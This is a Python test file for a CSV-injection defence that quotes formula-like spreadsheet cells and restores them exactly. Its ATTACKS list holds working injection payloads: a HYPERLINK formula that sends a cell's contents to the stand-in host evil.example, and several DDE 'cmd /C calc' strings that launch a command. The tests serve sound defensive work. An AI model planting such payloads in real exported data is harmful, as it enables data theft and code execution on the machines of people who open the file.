"""Spreadsheet cells: formula-like text is quoted (OWASP's CSV-injection rule), restored exactly, numbers untouched."""

from __future__ import annotations

import numpy as np
import pandas as pd
import pytest

from analysis.core.cells import neutralise, neutralise_frame, restore

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_gets_a_leading_quote_and_comes_back_unchanged(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", ["plain text", "'Tis the season", "'", "", "-5", "+3.25", "-1e-3", "3 - 2", "a=b"])
def test_harmless_text_and_plain_numbers_are_left_alone(text):
    assert neutralise(text) == text and restore(text) == text


@pytest.mark.parametrize("text", ["'=already quoted", "''@x", "'-5+1"])
def test_text_that_already_starts_with_quotes_round_trips(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


def test_a_frame_keeps_its_numbers_and_missing_values():
    df = pd.DataFrame({"text": ["=1+1", None, "ok"], "score": [-0.5, 1.0, np.nan], "n": [-1, 2, 3],
                       "flag": [True, False, True], "kind": pd.Categorical(["@a", "b", "@a"])})
    out = neutralise_frame(df)
    assert out["text"].tolist()[0] == "'=1+1" and pd.isna(out["text"].iloc[1])
    pd.testing.assert_series_equal(out["score"], df["score"])
    pd.testing.assert_series_equal(out["n"], df["n"])
    assert out["kind"].tolist() == ["'@a", "b", "'@a"]
    assert df["text"].iloc[0] == "=1+1" and df["kind"].tolist() == ["@a", "b", "@a"]  # the input is not changed
    assert df.columns.tolist() == ["text", "score", "n", "flag", "kind"]
    assert out.to_csv(index=False).splitlines()[1] == "'=1+1,-0.5,-1,True,'@a"
    assert neutralise_frame(df.rename(columns={"n": "=n"})).columns.tolist() == ["text", "score", "'=n", "flag", "kind"]


@pytest.mark.parametrize("dtype", ["str", "string[python]", "string[pyarrow]", object])
def test_a_string_column_is_neutralised_as_each_cell_would_be(dtype):
    texts = ATTACKS + ["plain text", "'Tis the season", "'", "", "-5", "+3.25", "3 - 2", "a=b", "'=already quoted",
                       "''@x", "'-5+1", None, "\n=not at the start", " =space first"]
    column = pd.Series(texts, dtype=dtype)
    out = neutralise_frame(pd.DataFrame({"text": column}))["text"]
    expected = [neutralise(t) if isinstance(t, str) else t for t in texts]
    assert [None if pd.isna(v) else v for v in out] == expected
    if dtype is not object:  # a string column stays the same kind of string column
        assert out.dtype == column.dtype
